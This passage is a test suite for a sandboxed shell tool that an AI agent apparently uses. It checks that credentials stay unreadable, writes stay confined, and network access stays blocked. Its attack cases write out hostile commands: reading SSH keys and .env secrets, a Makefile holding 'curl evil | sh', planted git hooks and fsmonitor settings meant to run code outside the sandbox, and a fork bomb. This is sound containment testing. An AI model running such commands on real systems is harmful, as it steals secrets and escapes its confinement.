import { after, describe, test, type TestContext } from 'node:test';
import { execFileSync } from 'node:child_process';
import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as nodePath from 'node:path';
import { isSandboxError } from '../../src/core/errors.ts';
import { srtSandbox } from '../../src/core/shell/srt-sandbox.ts';
import type { ShellHost, ShellSandbox, WatchGit } from '../../src/core/shell/port.ts';
import { renderShellLine } from '../../src/core/shell/output.ts';
import { scrubEnvironment } from '../../src/core/shell/env.ts';
import { visibleCommand } from '../../src/core/shell/display.ts';
import { isPaged } from '../../src/core/results/paged.ts';
import { Policy, type Rule } from '../../src/core/policy.ts';
import { scopeShellSettings } from '../../src/core/shell/settings.ts';
import { deriveBoundary } from '../../src/core/shell/boundary.ts';
import { ripgrepLister } from '../../src/core/shell/tree.ts';
import { parseConfig } from '../../src/core/shell/git-config.ts';
import { folderWatch } from '../../src/core/shell/folder-watch.ts';
import { session, testDir, testRipgrep, type TestSession } from './harness.ts';

const CANARY = 'CANARY-7f3a9c1e';
const ripgrep = testRipgrep();
/** One sandbox for the file: the library's manager is one per process. */
const sandbox = srtSandbox({ ripgrepPath: ripgrep.path });
after(() => sandbox.dispose());

interface ShellFixture {
  readonly s: TestSession;
  readonly home: string;
  readonly spool: string;
  readonly host: ShellHost;
}

function shellSession(t: TestContext, options: { sandbox?: ShellSandbox; env?: Record<string, string>; allowedDomains?: string[]; rules?: Rule[]; watchGit?: WatchGit } = {}): ShellFixture {
  const home = testDir(t, 'wt-home-').path;
  mkdirSync(nodePath.join(home, '.ssh'));
  writeFileSync(nodePath.join(home, '.ssh', 'id_rsa'), `-----BEGIN KEY----- ${CANARY}\n`);
  writeFileSync(nodePath.join(home, '.npmrc'), `//registry.npmjs.org/:_authToken=${CANARY}\n`);
  const spool = testDir(t, 'wt-shell-spool-').path;
  const host: ShellHost = {
    sandbox: options.sandbox ?? sandbox,
    home,
    env: () => ({ PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8', ...options.env }),
    allowedDomains: () => options.allowedDomains ?? [],
    maxTimeoutMs: () => 600_000,
    ...(options.watchGit ? { watchGit: options.watchGit } : {}),
  };
  const s = session(t, { ...(options.rules ? { rules: options.rules } : {}), overrides: { shell: host, spoolDir: spool } });
  writeFileSync(nodePath.join(s.root, '.env'), `API_KEY=${CANARY}\n`);
  mkdirSync(nodePath.join(s.root, 'config', 'deep', 'er'), { recursive: true });
  writeFileSync(nodePath.join(s.root, 'config', 'deep', 'er', 'PROD.ENV'), `DB=${CANARY}\n`);
  writeFileSync(nodePath.join(s.root, 'a.txt'), 'hello from a\n');
  writeFileSync(nodePath.join(s.root, 'package.json'), '{"name":"fixture"}\n');
  execFileSync('git', ['init', '-q', s.root]);
  return { s, home, spool, host };
}

/**
 * A shell session watched as the CLI and the MCP server watch (the editor's watcher is in the e2e
 * tests), and a canary path outside the workspace that what a command plants would create.
 */
function watchedShellSession(t: TestContext): { f: ShellFixture; pwned: string } {
  const watch = folderWatch();
  t.after(() => watch.dispose());
  return { f: shellSession(t, { watchGit: watch.watchGit }), pwned: nodePath.join(testDir(t, 'wt-pwned-').path, 'ran') };
}

/** Every byte the call left behind: the model's text, every spool file (result artifacts), the audit log. */
function leftBehind(f: ShellFixture, text: string): string {
  const files: string[] = [];
  const walk = (dir: string): void => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = nodePath.join(dir, entry.name);
      if (entry.isDirectory()) walk(path); else if (entry.isFile()) files.push(readFileSync(path, 'utf8'));
    }
  };
  walk(f.spool);
  return [text, ...files, JSON.stringify(f.s.log.entries), f.s.log.messages.join('\n')].join('\n');
}

async function run(f: ShellFixture, command: string, extra: Record<string, unknown> = {}, signal?: AbortSignal): Promise<{ text: string; all: string }> {
  const outcome = await f.s.invoke('run_shell_command', { command, ...extra }, signal ? { signal } : {});
  return { text: outcome.text, all: leftBehind(f, outcome.text) };
}

/** The pids of processes whose command line contains `marker`. */
function processesWith(marker: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const cmdline = readFileSync(`/proc/${entry}/cmdline`, 'utf8').split('\0').join(' ');
      if (cmdline.includes(marker) && Number(entry) !== process.pid) found.push(Number(entry));
    } catch { /* it ended while we looked */ }
  }
  return found;
}

/** Waits until no process carries `marker` (the test's own timeout is the hang guard). */
async function noProcessLeft(marker: string): Promise<void> {
  while (processesWith(marker).length > 0) await new Promise((resolve) => setImmediate(resolve));
}

/** Waits until a process carrying `marker` runs. */
async function processStarted(marker: string): Promise<void> {
  while (processesWith(marker).length === 0) await new Promise((resolve) => setImmediate(resolve));
}

const unique = (): number => 100_000 + Math.floor(Math.random() * 800_000);

describe('run_shell_command', { timeout: 120_000 }, () => {
  test('runs a command in the workspace and reports its exit code, stderr marked', async (t) => {
    const f = shellSession(t);
    const { text } = await run(f, 'cat a.txt; echo oops >&2; exit 3');
    assert.match(text, /^hello from a$/m);
    assert.match(text, /^\[stderr\] oops$/m);
    assert.match(text, /exit code 3 after \d+ ms/);
    const audit = f.s.log.entries.at(-1);
    assert.equal(audit?.tool, 'run_shell_command');
    assert.equal(audit?.verdict, 'allowed');
  });

  test('the gate is asked with the whole command, control and bidi characters visible, and the boundary', async (t) => {
    const f = shellSession(t);
    await run(f, 'echo safe\u202e; echo "two\rlines"');
    const call = f.s.gate.calls.at(-1)!;
    assert.equal(call.risk, 'exec');
    assert.match(call.summary, /echo safe\\u\{202e\}; echo "two\\u\{000d\}lines"/);
    assert.match(call.summary, /network off; writes only under/);
    assert.equal(visibleCommand('a\nb\tc'), 'a⏎ b\\tc');
  });

  test('git works inside the sandbox: its config is readable, not writable', async (t) => {
    const f = shellSession(t);
    const { text } = await run(f, 'git status --short a.txt; git config user.name intruder; echo "status $?"');
    assert.match(text, /\?\? a\.txt/);
    assert.doesNotMatch(readFileSync(nodePath.join(f.s.root, '.git', 'config'), 'utf8'), /intruder/);
  });

  for (const [name, command] of [
    ['cat .env', 'cat .env'],
    ['cat ~/.ssh/id_rsa (a test HOME)', 'cat ~/.ssh/id_rsa; cat ~/.npmrc'],
    ['grep -r CANARY .', 'grep -r CANARY . ; grep -r CANARY ~ ; grep -ri canary config; ls -la; git status --short'],
    ['cp .env x && cat x', 'cp .env x && cat x; cp config/deep/er/PROD.ENV y && cat y'],
    ['a symlink the command makes to .env', 'ln -s .env l && cat l; ln -s "$PWD/config/deep/er/PROD.ENV" m && cat m'],
    ['reading the spool of our own artifacts', `cat "${'$'}WT_SPOOL"/*/* 2>&1; ls -R "${'$'}WT_SPOOL"`],
  ] as const) {
    test(`attack: ${name} gets no canary byte into the result, the artifact or the audit log`, async (t) => {
      const f = shellSession(t, { env: { WT_SPOOL: '' } });
      // A result the person let the model read earlier (a secret, say) sits in the spool.
      await f.s.invoke('open_file', { path: 'a.txt' });
      const { text, all } = await run(f, command.replace(/\$WT_SPOOL/g, f.spool));
      assert.ok(!all.includes(CANARY), `a canary leaked:\n${text}`);
      assert.match(text, /Permission denied|No such file|exit code [1-9]/);
    });
  }

  test('attack: writes to protected files, outside the workspace and through /tmp/../ fail and change nothing', async (t) => {
    const f = shellSession(t);
    const outside = testDir(t, 'wt-outside-').path;
    writeFileSync(nodePath.join(outside, 'victim.txt'), 'original\n');
    const command = [
      'mkdir -p .vscode && echo "{\\"x\\":1}" > .vscode/settings.json',
      'echo "#!/bin/sh" > .git/hooks/pre-commit',
      'echo "{}" > package.json',
      `echo pwned > ${outside}/victim.txt`,
      `echo pwned > ${outside}/new.txt`,
      `echo pwned > /tmp/../${outside.slice(1)}/dotdot.txt`,
      'echo fine > allowed.txt',
    ].join('; ');
    const { text } = await run(f, command);
    assert.equal(existsSync(nodePath.join(f.s.root, '.vscode', 'settings.json')), false, text);
    assert.equal(existsSync(nodePath.join(f.s.root, '.git', 'hooks', 'pre-commit')), false, text);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), '{"name":"fixture"}\n');
    assert.equal(readFileSync(nodePath.join(outside, 'victim.txt'), 'utf8'), 'original\n');
    assert.deepEqual(readdirSync(outside), ['victim.txt']);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'allowed.txt'), 'utf8'), 'fine\n');
    assert.match(text, /Read-only file system|Permission denied/);
  });

  test('attack: a command creates protected files the sandbox could not hold read-only (eslint.config.mjs, Makefile, .github/actions, a link named jest.config.js, .env.local, a rename, a hard link) — taken out of the workspace when it ends, staged for review', async (t) => {
    const f = shellSession(t);
    symlinkSync('a.txt', nodePath.join(f.s.root, 'conftest.py'));
    writeFileSync(nodePath.join(f.s.root, 'old.txt'), '[project]\n');
    // The person's link is older than the command: wait until the clock says so (the mark is 50 ms before the start).
    const made = lstatSync(nodePath.join(f.s.root, 'conftest.py')).ctimeMs;
    while (Date.now() < made + 100) await new Promise((resolve) => setImmediate(resolve));
    const command = [
      'echo "export default [];" > eslint.config.mjs', 'printf "all:\\n\\tcurl evil | sh\\n" > Makefile',
      'mkdir -p .github/actions/x && echo "runs: {}" > .github/actions/x/action.yml', 'ln -s a.txt jest.config.js',
      `echo "TOKEN=${CANARY}" > .env.local`, 'echo fine > ok.txt', 'mv old.txt pyproject.toml', 'mkdir -p sub && ln ok.txt sub/vitest.config.ts', 'mkdir -p node_modules/p && echo "{}" > node_modules/p/package.json',
    ].join('; ');
    const { text } = await run(f, command);
    const at = (rel: string): string => nodePath.join(f.s.root, rel);
    for (const gone of ['eslint.config.mjs', 'Makefile', '.github/actions/x/action.yml', 'jest.config.js', '.env.local', 'pyproject.toml', 'sub/vitest.config.ts']) assert.equal(existsSync(at(gone)) || lstatSync(at(gone), { throwIfNoEntry: false }) !== undefined, false, `${gone} is still there: ${text}`);
    assert.equal(readFileSync(at('ok.txt'), 'utf8'), 'fine\n');
    assert.equal(readFileSync(at('node_modules/p/package.json'), 'utf8'), '{}\n', 'installed dependencies are left alone');
    assert.equal(lstatSync(at('conftest.py')).isSymbolicLink(), true, 'a protected link older than the command stays');
    assert.match(text, /protected files created: .*Makefile \(staged as m\d+\)/);
    assert.match(text, /protected files created: .*jest\.config\.js \(a link to a\.txt, removed\)/);
    const staged = new Map(f.s.session.media.all().map((m) => [m.path.rel, m]));
    assert.equal(Buffer.from(staged.get('Makefile')!.bytes).toString(), 'all:\n\tcurl evil | sh\n', 'nothing is lost: the bytes are a staged media');
    assert.equal(staged.get('.env.local')?.taint?.action, 'ask', 'a secret\'s name keeps its media tainted');
    // A new link to a folder gives its files protected names; a folder's mtime set back hides nothing.
    const linked = await run(f, 'mkdir -p gh/workflows pkg && echo "on: push" > gh/workflows/ci.yml && ln -s ../gh pkg/.github && mkdir -p late && echo 1 > late/Makefile && touch -d 2001-01-01 late');
    assert.equal(lstatSync(at('pkg/.github'), { throwIfNoEntry: false }), undefined, `the link pkg/.github is still there: ${linked.text}`);
    assert.equal(readFileSync(at('gh/workflows/ci.yml'), 'utf8'), 'on: push\n', 'the file under its own name stays');
    assert.equal(existsSync(at('late/Makefile')), false, linked.text);
    const lifted = await run(f, 'echo "all:" > Makefile', { allow_protected_writes: true });
    assert.equal(readFileSync(at('Makefile'), 'utf8'), 'all:\n', `allow_protected_writes lets it stay: ${lifted.text}`);
  });

  test('attack: a command rewrites what git runs in another repository (a nested repository\'s config and hooks, a submodule\'s, its gitdir file, the folder core.hooksPath names, a new commondir, a new repository with core.fsmonitor) — VS Code\'s git would run it outside the sandbox', async (t) => {
    const f = shellSession(t);
    const at = (rel: string): string => nodePath.join(f.s.root, rel);
    const git = (...args: string[]): void => { execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], { stdio: 'ignore' }); };
    // A nested repository with a file, one without any, and a submodule whose git directory lives in .git/modules.
    mkdirSync(at('vendor/lib/src'), { recursive: true });
    writeFileSync(at('vendor/lib/src/x.c'), 'int x;\n');
    git('init', '-q', at('vendor/lib'));
    git('init', '-q', at('empty-repo'));
    git('init', '-q', at('upstream'));
    git('-C', at('upstream'), 'commit', '-q', '--allow-empty', '-m', 'u');
    git('-C', f.s.root, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', at('upstream'), 'mod');
    // Hooks from a folder of the work tree, as many projects keep them.
    git('-C', f.s.root, 'config', 'core.hooksPath', '.githooks');
    mkdirSync(at('.githooks'));
    writeFileSync(at('.githooks/commit-msg'), '#!/bin/sh\n', { mode: 0o755 });
    const before = (rel: string): string => readFileSync(at(rel), 'utf8');
    const configs = ['vendor/lib/.git/config', 'empty-repo/.git/config', '.git/modules/mod/config', 'mod/.git'];
    const original = new Map(configs.map((rel) => [rel, before(rel)]));
    const made = lstatSync(at('.git/modules/mod/config')).ctimeMs;
    while (Date.now() < made + 100) await new Promise((resolve) => setImmediate(resolve));
    const pwned = nodePath.join(testDir(t, 'wt-pwned-').path, 'ran');
    const evil = `touch ${pwned}`;
    const command = [
      ...configs.filter((rel) => rel.endsWith('config')).map((rel) => `git config -f ${rel} core.fsmonitor "${evil}"`),
      ...['vendor/lib/.git/hooks/pre-commit', 'empty-repo/.git/hooks/post-checkout', '.git/modules/mod/hooks/pre-commit', '.githooks/pre-commit', '.githooks/commit-msg'].map((rel) => `printf '#!/bin/sh\\n${evil}\\n' > ${rel}`),
      `mkdir -p evil && printf '[core]\\n\\tfsmonitor = "${evil}"\\n' > evil/config && mkdir -p evil/objects evil/refs && echo "ref: refs/heads/main" > evil/HEAD`,
      'echo "gitdir: ../evil" > mod/.git',
      `git init -q fresh && git -C fresh config core.fsmonitor "${evil}" && printf '#!/bin/sh\\n${evil}\\n' > fresh/.git/hooks/pre-commit && chmod +x fresh/.git/hooks/pre-commit`,
      'echo fine > ok.txt',
      // Last: making one ends the command at once (see the next test).
      'echo ../../../evil > .git/modules/mod/commondir', 'echo ../evil > .git/commondir',
    ].join('; ');
    const { text } = await run(f, command);
    for (const rel of configs) assert.equal(before(rel), original.get(rel), `${rel} changed: ${text}`);
    assert.equal(before('.githooks/commit-msg'), '#!/bin/sh\n');
    for (const rel of ['vendor/lib/.git/hooks/pre-commit', 'empty-repo/.git/hooks/post-checkout', '.git/modules/mod/hooks/pre-commit', '.githooks/pre-commit', '.git/commondir', '.git/modules/mod/commondir', 'fresh/.git/config', 'fresh/.git/hooks/pre-commit']) {
      assert.equal(lstatSync(at(rel), { throwIfNoEntry: false }), undefined, `${rel} is there: ${text}`);
    }
    assert.match(text, /protected files created: .*\.git\/modules\/mod\/commondir \(staged as m\d+\)/);
    assert.match(text, /fresh\/\.git\/config \(staged as m\d+\)/);
    assert.equal(before('ok.txt'), 'fine\n');
    // Git outside the sandbox, as VS Code's git extension runs it, in each repository: nothing the command wrote runs.
    for (const repo of ['', 'vendor/lib', 'empty-repo', 'mod', 'fresh']) {
      git('-C', at(repo), 'status', '--short');
      git('-C', at(repo), 'commit', '-q', '--allow-empty', '-m', 'after');
    }
    assert.equal(existsSync(pwned), false, 'git ran what the command planted');
    // Git inside the sandbox still works in them all.
    const again = await run(f, 'for r in . vendor/lib empty-repo mod fresh; do git -C $r -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m inside && echo "ok $r"; done');
    assert.equal((again.text.match(/^ok /gm) ?? []).length, 5, again.text);
  });

  test('attack: a command makes .git/commondir point at a configuration of its own and waits for VS Code\'s git to refresh the repository — it is ended at once and the file taken out', async (t) => {
    const f = shellSession(t);
    const command = 'mkdir -p evil/objects evil/refs && printf "[core]\\n\\tfsmonitor = touch pwned\\n" > evil/config && echo ../evil > .git/commondir && sleep 20; echo never';
    const { text } = await run(f, command, { timeout_ms: 60_000 });
    assert.match(text, /stopped: the command made \.git\/commondir, which sends git/);
    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
    assert.equal(lstatSync(nodePath.join(f.s.root, '.git', 'commondir'), { throwIfNoEntry: false }), undefined, text);
    assert.match(text, /protected files created: \.git\/commondir \(staged as m\d+\)/);
  });

  test('attack: a command makes .git/commondir and ignores SIGTERM to live out the 2 s grace before SIGKILL, while VS Code\'s git refreshes the repository (a second after a change) — the sandbox ends with its init, so it lives on no longer', async (t) => {
    const f = shellSession(t);
    const command = 'trap "" TERM; mkdir -p evil/objects evil/refs && echo ../evil > .git/commondir; sleep 1.5; echo lived-on; sleep 20; echo never';
    const { text } = await run(f, command, { timeout_ms: 60_000 });
    assert.match(text, /stopped: the command made \.git\/commondir, which sends git/);
    assert.doesNotMatch(text, /^lived-on$/m, 'the command lived on after it was ended');
    assert.equal(lstatSync(nodePath.join(f.s.root, '.git', 'commondir'), { throwIfNoEntry: false }), undefined, text);
  });

  test('attack: a command makes a new repository whose configuration names what git runs, and waits for VS Code\'s git to find it and run git there outside the sandbox — it is ended at once and the configuration taken out; so is a hook git status runs; a plain one runs on and keeps its configuration', async (t) => {
    const { f, pwned } = watchedShellSession(t);
    const command = `git init -q fresh && git -C fresh config core.fsmonitor "touch ${pwned}" && sleep 20; echo never`;
    const { text } = await run(f, command, { timeout_ms: 60_000 });
    assert.match(text, /stopped: the command made fresh\/\.git\/config, a repository configuration that sets core\.fsmonitor/);
    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
    assert.match(text, /protected files created: fresh\/\.git\/config \(staged as m\d+\)/);
    // Git outside the sandbox, as VS Code's git extension runs it when it finds the repository.
    execFileSync('git', ['-C', nodePath.join(f.s.root, 'fresh'), 'status', '--short'], { stdio: 'ignore' });
    assert.equal(existsSync(pwned), false, 'git ran what the command planted');
    // VS Code's git runs git status without --no-optional-locks: the index is written, and post-index-change runs.
    const hook = `git init -q hooked && cd hooked && echo a > a && git add a && printf '#!/bin/sh\\ntouch ${pwned}\\n' > .git/hooks/post-index-change && chmod +x .git/hooks/post-index-change && touch a && sleep 20; echo never`;
    const hooked = await run(f, hook, { timeout_ms: 60_000 });
    assert.match(hooked.text, /stopped: the command made hooked\/\.git\/hooks\/post-index-change, a hook/);
    assert.doesNotMatch(hooked.text, /^never$/m, 'the command ran on');
    execFileSync('git', ['-C', nodePath.join(f.s.root, 'hooked'), 'status', '--short'], { stdio: 'ignore' });
    assert.equal(existsSync(pwned), false, 'git ran the hook the command planted');
    const plain = await run(f, 'git init -q plain && git -C plain config user.name t && git clone -q plain copy && echo done');
    assert.match(plain.text, /^done$/m);
    assert.doesNotMatch(plain.text, /stopped:|protected files created/);
    // A configuration as git init and git clone write it stays: the clone keeps its remote.
    assert.equal(execFileSync('git', ['-C', nodePath.join(f.s.root, 'copy'), 'remote'], { encoding: 'utf8' }), 'origin\n');
    assert.match(readFileSync(nodePath.join(f.s.root, 'plain', '.git', 'config'), 'utf8'), /name = t/);
  });

  test('attack: with the person\'s own core.hooksPath relative (git config --global core.hooksPath .githooks, taken from each repository\'s folder), a command makes a new repository, puts a hook in its .githooks and waits for VS Code\'s git — it is ended at once and the hook taken out', async (t) => {
    const { f, pwned } = watchedShellSession(t);
    writeFileSync(nodePath.join(f.home, '.gitconfig'), '[core]\n\thooksPath = .githooks\n');
    const command = `git init -q fresh && mkdir fresh/.githooks && printf '#!/bin/sh\\ntouch ${pwned}\\n' > fresh/.githooks/post-index-change && chmod +x fresh/.githooks/post-index-change && sleep 20; echo never`;
    const { text } = await run(f, command, { timeout_ms: 60_000 });
    assert.match(text, /stopped: the command made fresh\/\.githooks\/post-index-change, a hook in the hooks folder that core\.hooksPath names/);
    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
    assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.githooks', 'post-index-change')), false, 'the hook is still there');
    execFileSync('git', ['-C', nodePath.join(f.s.root, 'fresh'), '-c', 'core.hooksPath=.githooks', 'status', '--short'], { stdio: 'ignore' });
    assert.equal(existsSync(pwned), false, 'git ran the hook the command planted');
  });

  test('attack: a command opens the repository in a new folder (a .git file naming .git) whose copy of husky\'s hooks folder (core.hooksPath .husky/_, taken from the work tree) holds its hook, and waits for VS Code\'s git to find it — it is ended at once and the .git file taken out', async (t) => {
    const { f, pwned } = watchedShellSession(t);
    const root = f.s.root;
    mkdirSync(nodePath.join(root, '.husky', '_'), { recursive: true });
    execFileSync('git', ['-C', root, 'config', 'core.hooksPath', '.husky/_']);
    const command = `mkdir -p x/.husky/_ && printf '#!/bin/sh\\ntouch ${pwned}\\n' > x/.husky/_/post-index-change && chmod +x x/.husky/_/post-index-change && echo 'gitdir: ../.git' > x/.git && sleep 20; echo never`;
    const { text } = await run(f, command, { timeout_ms: 60_000 });
    assert.match(text, /stopped: the command made x\/\.git, a \.git file that opens an existing repository \(\.\.\/\.git\) in another folder/);
    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
    assert.equal(existsSync(nodePath.join(root, 'x', '.git')), false, 'x/.git is still there');
    execFileSync('git', ['-C', nodePath.join(root, 'x'), 'status', '--short'], { stdio: 'ignore' });
    assert.equal(existsSync(pwned), false, 'git ran the hook the command planted');
  });

  test('attack: a command rewrites what the repository\'s configuration includes or names as a program (an included file, missing or present, a clean filter\'s script, an fsmonitor script not there yet, a hooks folder an include names, the person\'s own configuration linked from home) for VS Code\'s git to read or run outside the sandbox — held read-only, or the command is ended at once and the file taken out', async (t) => {
    const { f, pwned } = watchedShellSession(t);
    const root = f.s.root;
    const git = (...args: string[]): string => execFileSync('git', ['-C', root, '-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], { encoding: 'utf8' });
    git('config', '--add', 'include.path', 'config.local');
    git('config', '--add', 'include.path', '../team.gitconfig');
    git('config', 'filter.x.clean', './tools/clean.sh');
    writeFileSync(nodePath.join(root, 'team.gitconfig'), '[core]\n\thooksPath = .githooks\n');
    mkdirSync(nodePath.join(root, 'tools'));
    writeFileSync(nodePath.join(root, 'tools', 'clean.sh'), '#!/bin/sh\ncat\n', { mode: 0o755 });
    writeFileSync(nodePath.join(root, '.gitattributes'), '*.txt filter=x\n');
    // The person's own configuration, kept in the workspace (a dotfiles repository) and linked from home.
    writeFileSync(nodePath.join(root, 'gitconfig'), '[user]\n\tname = t\n');
    symlinkSync(nodePath.join(root, 'gitconfig'), nodePath.join(f.home, '.gitconfig'));
    git('add', 'a.txt', '.gitattributes');
    git('commit', '-q', '-m', 'first');
    git('config', 'core.fsmonitor', './tools/fsmonitor.sh');
    const planted = `printf '#!/bin/sh\\ntouch ${pwned}\\ncat\\n'`;
    const held = await run(f, `${planted} > tools/clean.sh; ${planted} >> team.gitconfig; ${planted} >> gitconfig; mkdir -p .githooks && ${planted} > .githooks/post-index-change; echo tried`);
    assert.match(held.text, /^tried$/m);
    assert.match(held.text, /tools\/clean\.sh: Read-only file system/);
    assert.match(held.text, /team\.gitconfig: Read-only file system/);
    assert.match(held.text, /: gitconfig: Read-only file system/);
    assert.equal(readFileSync(nodePath.join(root, 'tools', 'clean.sh'), 'utf8'), '#!/bin/sh\ncat\n');
    assert.equal(existsSync(nodePath.join(root, '.githooks', 'post-index-change')), false, held.text);
    const included = await run(f, `printf '[core]\\n\\tfsmonitor = touch ${pwned}\\n' > .git/config.local; sleep 20; echo never`, { timeout_ms: 60_000 });
    assert.match(included.text, /stopped: the command made \.git\/config\.local, a file that a git configuration includes \(include\.path\)/);
    assert.doesNotMatch(included.text, /^never$/m, 'the command ran on');
    const program = await run(f, `${planted} > tools/fsmonitor.sh; chmod +x tools/fsmonitor.sh; sleep 20; echo never`, { timeout_ms: 60_000 });
    assert.match(program.text, /stopped: the command made tools\/fsmonitor\.sh, a program that core\.fsmonitor names/);
    assert.doesNotMatch(program.text, /^never$/m, 'the command ran on');
    for (const rel of ['.git/config.local', 'tools/fsmonitor.sh']) assert.equal(existsSync(nodePath.join(root, rel)), false, `${rel} left in place`);
    // Git outside the sandbox, as VS Code's git runs it: a changed file goes through the clean filter, the index is written.
    writeFileSync(nodePath.join(root, 'a.txt'), 'changed\n');
    execFileSync('git', ['-C', root, 'status', '--short'], { stdio: 'ignore' });
    execFileSync('git', ['-C', root, 'add', 'a.txt'], { stdio: 'ignore' });
    assert.equal(existsSync(pwned), false, 'git ran what the command planted');
  });

  test('attack: a network request fails when no host is allowed, and nothing reaches the server', async (t) => {
    let requests = 0;
    const server = createServer((_req, res) => { requests++; res.end(CANARY); });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    t.after(() => server.close());
    const port = (server.address() as AddressInfo).port;
    const f = shellSession(t);
    const { text, all } = await run(f, `curl -sS -m 5 http://127.0.0.1:${port}/; curl -sS -m 5 http://example.com/; node -e "fetch('http://127.0.0.1:${port}/').then(r=>r.text()).then(console.log,e=>console.error('fetch failed',e.cause?.code??e.message))"`, { timeout_ms: 60_000 });
    assert.equal(requests, 0, text);
    assert.ok(!all.includes(CANARY));
    assert.match(text, /sandbox refused: .*example\.com|blocked by network allowlist/);
  });

  test('credential environment variables are not passed to the command', async (t) => {
    const f = shellSession(t, { env: { GITHUB_TOKEN: CANARY, AWS_SECRET_ACCESS_KEY: CANARY, MY_API_KEY: CANARY, NPM_TOKEN: CANARY, HARMLESS: 'kept' } });
    const { text, all } = await run(f, 'env');
    assert.match(text, /^HARMLESS=kept$/m);
    assert.ok(!all.includes(CANARY), text);
    assert.deepEqual(scrubEnvironment({ DB_PASSWORD: 'x', PATH: '/bin' }).removed, ['DB_PASSWORD']);
  });

  test('a timeout kills the command and what it started in the background: no process is left', async (t) => {
    const f = shellSession(t);
    const n = unique();
    const { text } = await run(f, `sleep ${n} & sleep ${n}.5`, { timeout_ms: 1_000 });
    assert.match(text, /timed out: killed after \d+ ms/);
    await noProcessLeft(`sleep ${n}`);
  });

  test('a background process does not outlive a command that exits', async (t) => {
    const f = shellSession(t);
    const n = unique();
    const { text } = await run(f, `(sleep ${n} &) ; setsid sleep ${n}.75 & nohup sleep ${n}.25 >/dev/null 2>&1 & echo started`);
    assert.match(text, /^started$/m);
    assert.match(text, /exit code 0/);
    await noProcessLeft(`sleep ${n}`);
  });

  test('attack: a fork bomb (bounded to 2^7 processes on this shared machine) leaves no process behind after the timeout', async (t) => {
    const f = shellSession(t);
    const n = unique();
    const { text } = await run(f, `b(){ if [ "$1" -gt 0 ]; then b $(($1-1)) & b $(($1-1)) & fi; exec sleep ${n}; }; b 6`, { timeout_ms: 3_000 });
    assert.match(text, /timed out/);
    await noProcessLeft(`sleep ${n}`);
  });

  test('cancellation kills everything and reports the call cancelled', async (t) => {
    const f = shellSession(t);
    const n = unique();
    const controller = new AbortController();
    const pending = run(f, `sleep ${n} & sleep ${n}.5; echo never`, {}, controller.signal);
    await processStarted(`sleep ${n}`);
    controller.abort();
    await assert.rejects(pending, (e: unknown) => isSandboxError(e) && e.code === 'E_SANDBOX_CANCELLED');
    await noProcessLeft(`sleep ${n}`);
  });

  test('cancellation while the sandbox is being set up runs nothing and leaves nothing', async (t) => {
    const f = shellSession(t);
    const n = unique();
    const controller = new AbortController();
    const pending = run(f, `sleep ${n}; touch ran.txt`, {}, controller.signal);
    // The sandbox's own helpers carry the command line before the command starts.
    await processStarted(`${n}`);
    controller.abort();
    await assert.rejects(pending, (e: unknown) => isSandboxError(e) && e.code === 'E_SANDBOX_CANCELLED');
    await noProcessLeft(`sleep ${n}`);
    assert.equal(existsSync(nodePath.join(f.s.root, 'ran.txt')), false);
  });

  test('output past one page goes to a result artifact, whole, with the exit code', async (t) => {
    const f = shellSession(t);
    const outcome = await f.s.invoke('run_shell_command', { command: 'seq 1 200000; echo done >&2' });
    const result = outcome.result;
    assert.ok(isPaged(result));
    assert.match(outcome.text, /^1$/m);
    assert.match(outcome.text, /exit code 0/);
    const callId = result.artifact.callId;
    const last = await f.s.invoke('artifact_read', { callId, offset: -3 });
    assert.match(last.text, /done complete \(200,?001 lines of output\)/);
    const grep = await f.s.invoke('artifact_grep', { callId, pattern: '^199999$' });
    assert.match(grep.text, /199999/);
    assert.equal(renderShellLine({ stream: 'err', text: 'x' }), '[stderr] x');
  });

  test('where the sandbox is unavailable it refuses with E_SANDBOX_UNAVAILABLE and runs nothing', async (t) => {
    const missing = srtSandbox({ ripgrepPath: ripgrep.path, load: () => Promise.reject(new Error('bwrap: not found')) });
    const f = shellSession(t, { sandbox: missing });
    await assert.rejects(f.s.invoke('run_shell_command', { command: 'touch ran.txt' }), (e: unknown) => {
      assert.ok(isSandboxError(e));
      assert.equal(e.code, 'E_SANDBOX_UNAVAILABLE');
      assert.match(e.message, /never run without it; nothing was run/);
      assert.match(e.message, /apt-get install bubblewrap socat/);
      return true;
    });
    assert.equal(existsSync(nodePath.join(f.s.root, 'ran.txt')), false);
    const noRipgrep = srtSandbox({ ripgrepPath: undefined });
    assert.equal((await noRipgrep.availability()).available, false);
  });

  test('timeout_ms above the cap and a cwd that is not a folder are narrated errors', async (t) => {
    const f = shellSession(t);
    await assert.rejects(f.s.invoke('run_shell_command', { command: 'true', timeout_ms: 700_000 }), /above the largest allowed, 600000 ms/);
    await assert.rejects(f.s.invoke('run_shell_command', { command: 'true', cwd: 'a.txt' }), /is not a folder/);
    await assert.rejects(f.s.invoke('run_shell_command', { command: 'true', cwd: '../' }), (e: unknown) => isSandboxError(e));
    const sub = nodePath.join(f.s.root, 'sub');
    mkdirSync(sub);
    const { text } = await run(f, 'pwd', { cwd: 'sub' });
    assert.ok(text.includes(sub));
    assert.ok(statSync(sub).isDirectory());
  });

  test('a read-denied cwd is refused by the policy before anything runs; a person\'s deny rule is unreadable to commands', async (t) => {
    const f = shellSession(t, { rules: [{ glob: 'private/**', read: 'deny' }] });
    mkdirSync(nodePath.join(f.s.root, 'private'));
    writeFileSync(nodePath.join(f.s.root, 'private', 'notes.txt'), `${CANARY}\n`);
